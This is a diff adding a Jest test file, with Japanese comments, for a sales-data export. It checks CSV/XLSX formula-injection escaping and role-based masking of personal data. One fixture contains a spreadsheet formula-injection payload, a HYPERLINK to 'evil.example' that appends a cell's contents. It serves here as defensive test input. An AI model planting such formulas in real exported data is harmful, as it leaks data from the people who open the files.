@@ -0,0 +1,139 @@
+/**
+ * 営業データエクスポートのテスト
+ * CSV の数式インジェクション対策と、ロール・権限別の個人情報マスクを検証
+ */
+jest.mock('../src/config/redis', () => ({
+    client: {
+        get: jest.fn().mockResolvedValue(null),
+        set: jest.fn().mockResolvedValue('OK'),
+        incr: jest.fn().mockResolvedValue(1)
+    }
+}));
+
+const ExcelJS = require('exceljs');
+const { buildExportTable, renderCsv, renderXlsx, maskValue } = require('../src/utils/salesExport');
+const exportController = require('../src/controllers/exportController');
+
+const CONTACT = {
+    ticket_number: 'INQ-20261019-A1B2C3',
+    submitted_at: new Date('2026-10-19T01:00:00.000Z'),
+    status: 'new',
+    constitutional_compliance: { compliant: true, violations: [] },
+    service: 'ai_development',
+    name: '山田 太郎',
+    email: 'taro.yamada@example.com',
+    company: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    phone: '03-1234-5678',
+    message: '+SUM(1,2)\nよろしくお願いします',
+    source: { ip: '203.0.113.10' }
+};
+
+// CSV本文（BOM除去・CRLF区切り）
+const csvLines = (buffer) => buffer.toString('utf8').replace(/^\uFEFF/, '').split('\r\n');
+
+describe('sales export', () => {
+    describe('CSV formula injection', () => {
+        test.each([
+            ['=1+1', "'=1+1"],
+            ['+81 3 1234 5678', "'+81 3 1234 5678"],
+            ['-2+3', "'-2+3"],
+            ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+            ['\tcmd', "'\tcmd"],
+            ['plain text', 'plain text']
+        ])('escapes %j', (value, expected) => {
+            const table = { columns: [{ label: 'value' }], rows: [[value]] };
+
+            expect(csvLines(renderCsv(table))[1]).toBe(expected);
+        });
+
+        test('quotes escaped cells that contain delimiters', () => {
+            const table = buildExportTable('contacts', [CONTACT], { locale: 'en', maskPii: false });
+            const csv = renderCsv(table).toString('utf8');
+
+            expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
+            expect(csv).toContain('"\'+SUM(1,2)\nよろしくお願いします"');
+        });
+
+        test('leaves numbers and dates unescaped', () => {
+            const table = {
+                columns: [{ label: 'amount' }, { label: 'date' }],
+                rows: [[-5000, new Date('2026-10-19T00:00:00.000Z')]]
+            };
+
+            expect(csvLines(renderCsv(table))[1]).toBe('-5000,2026-10-19T00:00:00.000Z');
+        });
+
+        test('writes XLSX values as strings rather than formulas', async () => {
+            const table = buildExportTable('contacts', [CONTACT], { locale: 'ja', maskPii: false });
+            const workbook = new ExcelJS.Workbook();
+            await workbook.xlsx.load(await renderXlsx(table));
+
+            const sheet = workbook.getWorksheet('contacts');
+            const companyColumn = table.columns.findIndex(column => column.key === 'company') + 1;
+            const cell = sheet.getRow(2).getCell(companyColumn);
+
+            expect(cell.type).toBe(ExcelJS.ValueType.String);
+            expect(cell.value).toBe(CONTACT.company);
+        });
+    });
+
+    describe('PII masking', () => {
+        const rowFor = (user) => {
+            const table = buildExportTable('contacts', [CONTACT], {
+                locale: 'en',
+                maskPii: !exportController.canReadPii(user)
+            });
+            return Object.fromEntries(table.columns.map((column, index) => [column.key, table.rows[0][index]]));
+        };
+
+        test('masks personal data for sales users without pii:read', () => {
+            const row = rowFor({ id: 'u1', role: 'sales', permissions: [] });
+
+            expect(row).toMatchObject({
+                name: '山***',
+                email: 't***@example.com',
+                phone: '***5678',
+                message: '[REDACTED]',
+                sourceIp: '[REDACTED]',
+                ticketNumber: CONTACT.ticket_number,
+                company: CONTACT.company
+            });
+        });
+
+        test.each([
+            ['admin', { id: 'u2', role: 'admin' }],
+            ['sales with pii:read', { id: 'u3', role: 'sales', permissions: ['pii:read'] }]
+        ])('exports personal data unmasked for %s', (label, user) => {
+            const row = rowFor(user);
+
+            expect(row).toMatchObject({
+                name: CONTACT.name,
+                email: CONTACT.email,
+                phone: CONTACT.phone,
+                message: CONTACT.message,
+                sourceIp: CONTACT.source.ip
+            });
+        });
+
+        test('masks estimate signer and contact details', () => {
+            const table = buildExportTable('estimates', [{
+                estimate_id: 'EST_TEST',
+                created_at: new Date('2026-10-19T00:00:00.000Z'),
+                acceptance: { email: 'buyer@example.com', signer_name: 'Jane Doe' },
+                source_ip: '198.51.100.7'
+            }], { locale: 'en', maskPii: true });
+            const row = Object.fromEntries(table.columns.map((column, index) => [column.key, table.rows[0][index]]));
+
+            expect(row).toMatchObject({ email: 'b***@example.com', signerName: 'J***', sourceIp: '[REDACTED]' });
+        });
+
+        test.each([
+            ['email', 'not-an-email', '[REDACTED]'],
+            ['phone', '123', '[REDACTED]'],
+            ['name', '', ''],
+            ['text', null, null]
+        ])('masks malformed %s values conservatively', (kind, value, expected) => {
+            expect(maskValue(kind, value)).toBe(expected);
+        });
+    });
+});